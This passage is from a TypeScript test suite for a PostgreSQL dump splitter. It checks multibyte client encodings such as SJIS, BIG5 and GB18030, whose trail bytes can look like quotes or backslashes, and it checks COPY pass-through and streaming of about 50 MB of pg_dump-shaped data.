  it('SJIS: a trail byte 0x27 does not end a string, as psql reads it; half-width katakana are one byte', () => {
    const dump = bytes("SET NAMES 'sjis';\nSELECT 'a", [0x82, 0x27], "; SELECT 2;';\nSELECT '", [0xb1], "';\n");
    expect(sent(dump)).toEqual(["SET NAMES 'sjis';", bytes("SELECT 'a", [0x82, 0x27], "; SELECT 2;';").toString('latin1'), bytes("SELECT '", [0xb1], "';").toString('latin1')]);
  });

  it('BIG5, GBK, UHC, JOHAB and GB18030 (2- and 4-byte characters)', () => {
    for (const [encoding, char] of [
      ['BIG5', [0xb3, 0x5c]],
      ['GBK', [0x81, 0x5c]],
      ['WIN936', [0x81, 0x5c]],
      ['UHC', [0x81, 0x5c]],
      ['JOHAB', [0x88, 0x5c]],
      ['GB18030', [0x81, 0x5c]],
      ['GB18030', [0x81, 0x30, 0x81, 0x30]],
      ['GB18030', [0x95, 0x33, 0x82, 0x27]],
    ] as const) {
      const dump = bytes(`SET client_encoding TO '${encoding}';\nSELECT E'`, [...char], "' AS x", [...char], ";\nSELECT 2;\n");
      expect(sent(dump).length, encoding).toBe(3);
    }
  });

  it('follows the encoding the server reports (set_config, RESET), and UTF-8 again after it', () => {
    const dump = bytes("SELECT set_config('client_encoding', 'SJIS', false);\nSELECT '", HYO, "';\nRESET client_encoding;\nSELECT E'\\\\';\n");
    const o = splitChunks([dump], {}, (sql, splitter) => {
      if (sql.includes('set_config')) splitter.setClientEncoding('SJIS');
      if (sql.startsWith('RESET')) splitter.setClientEncoding('UTF8');
    });
    expect(o.ok && o.events.length).toBe(4);
    const without = splitChunks([bytes("SELECT set_config('client_encoding', 'SJIS', false);\nSELECT E'", HYO, "';\nSELECT 2;\n")]);
    expect(without.ok && without.events.length).toBe(2); // read as UTF-8 the E-string swallows the next statement
  });

  it('leaves COPY data bytes as they are (the server converts them)', () => {
    const row = bytes('1\t', HYO, '\t\\\\\n');
    expect(events(bytes("SET client_encoding = 'SJIS';\nCOPY t FROM stdin;\n", row, '\\.\n'))).toEqual([
      "S1:SET client_encoding = 'SJIS';",
      'S2@3:COPY t FROM stdin;',
      `D:${row.toString('latin1')}`,
      'E',
    ]);
  });
});

describe('SQL splitter: streaming', () => {
  it('streams ~50 MB of pg_dump-shaped data (mostly COPY) in bounded slices', async () => {
    const header = Buffer.from('--\n-- PostgreSQL database dump\n--\n\nSET standard_conforming_strings = on;\n');
    const footer = Buffer.from(`\n--\n${CLOSING}\n--\n\n`);
    const chunks: Buffer[] = [header];
    let size = header.length;
    let copyBytes = 0;
    const inHash = createHash('sha256');
    let table = 0;
    while (size < 50_000_000) {
      const statement = `\nCOPY public.t${table} (id, name, note, created) FROM stdin;\n`;
      const rows: string[] = [];
      for (let r = 0; r < 20_000; r++) {
        rows.push(`${r}\tname ${r} with a \\t tab and a \\\\ backslash\t${r % 3 === 0 ? '\\N' : `note ${'x'.repeat(r % 50)}`}\t2024-01-0${(r % 9) + 1} 12:00:00+00\n`);
      }
      const data = Buffer.from(rows.join(''));
      inHash.update(data);
      copyBytes += data.length;
      const block = Buffer.concat([Buffer.from(statement), data, Buffer.from('\\.\n')]);
      for (let i = 0; i < block.length; i += 65_536) chunks.push(block.subarray(i, i + 65_536));
      size += block.length;
      table++;
    }
    chunks.push(footer);
    size += footer.length;

    const splitter = new SqlSplitter();
    const outHash = createHash('sha256');
    let outBytes = 0;
    let largest = 0;
    let copies = 0;
    const started = performance.now();
    for await (const event of sqlEvents(Readable.from(chunks), splitter)) {
      if (event.kind === 'copy-data') {
        outHash.update(event.data);
        outBytes += event.data.length;
        largest = Math.max(largest, event.data.length);
      } else if (event.kind === 'copy-end') copies++;
    }
    const seconds = (performance.now() - started) / 1000;
    console.log(`SQL splitter: ${(size / 1e6).toFixed(1)} MB in ${seconds.toFixed(2)} s = ${(size / 1e6 / seconds).toFixed(0)} MB/s`);
    expect(copies).toBe(table);
    expect(outBytes).toBe(copyBytes);
    expect(outHash.digest('hex')).toBe(inHash.digest('hex'));
    expect(largest).toBeLessThanOrEqual(65_536);
    expect(splitter.result).toMatchObject({ pgDump: true, complete: true });
  });
});
